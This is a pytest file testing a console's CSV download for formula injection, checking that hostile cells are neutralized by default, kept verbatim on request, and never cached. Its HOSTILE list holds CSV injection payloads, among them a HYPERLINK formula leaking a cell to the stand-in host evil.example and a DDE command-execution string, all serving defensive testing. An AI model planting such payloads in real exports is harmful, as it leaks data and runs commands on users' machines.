"""CSV injection through a download: a producer writes cells that a spreadsheet would run as
formulas; the console's CSV neutralizes them unless asked not to, and no download is
cached. Performed against a live console over a real socket."""

from __future__ import annotations

import csv
import io
import json

import pytest

from engine import Producer

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tindented=1",
    "\r=1",
]


@pytest.fixture
def hostile_topic(live_web):
    cluster = live_web.cluster
    cluster.create_stream("/s", default_partitions=1)
    cluster.create_topic("/s:t", partitions=1)
    producer = Producer(cluster, acks=1)
    for text in HOSTILE:
        producer.send("/s:t", key=text.encode(), value=text.encode(), headers=[("h", b"=1")])
    producer.send("/s:t", key=b"plain", value=b"42")
    producer.flush()
    producer.close()
    return "/topics/s:t/download"


def _rows(answer) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text[:300]
    return list(csv.DictReader(io.StringIO(answer.content.decode())))


def test_csv_neutralizes_formulas_by_default(live_web, hostile_topic):
    browser = live_web.browser("admin")
    answer = browser.get(hostile_topic, params={"file": "csv"})
    rows = _rows(answer)
    assert [r["key"] for r in rows] == ["'" + t for t in HOSTILE] + ["plain"]
    assert [r["value"] for r in rows] == ["'" + t for t in HOSTILE] + ["42"]
    # the headers cell is JSON text starting with "[": not a formula, left as it is
    assert rows[0]["headers"].startswith('[{"name": "h"')
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert answer.headers["Cache-Control"] == "no-store"


def test_csv_keeps_cells_exactly_when_asked(live_web, hostile_topic):
    browser = live_web.browser("admin")
    rows = _rows(browser.get(hostile_topic, params={"file": "csv", "formulas": "keep"}))
    assert [r["value"] for r in rows] == HOSTILE + ["42"]


def test_jsonl_download_is_not_cached_and_exact(live_web, hostile_topic):
    browser = live_web.browser("admin")
    answer = browser.get(hostile_topic, params={"file": "jsonl"})
    assert answer.status_code == 200
    assert answer.headers["Cache-Control"] == "no-store"
    values = [json.loads(line)["value"] for line in answer.content.decode().splitlines()]
    assert values == HOSTILE + ["42"]  # JSON is data, never neutralized
